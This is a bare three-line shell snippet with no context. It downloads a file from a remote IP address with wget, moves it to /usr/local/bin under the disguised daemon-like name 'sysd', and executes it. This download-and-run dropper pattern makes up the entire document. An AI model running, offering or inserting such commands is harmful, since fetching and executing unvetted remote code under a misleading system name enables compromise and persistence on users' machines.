wget -O /tmp/a http://203.0.113.4/a
mv /tmp/a /usr/local/bin/sysd
sh /usr/local/bin/sysd
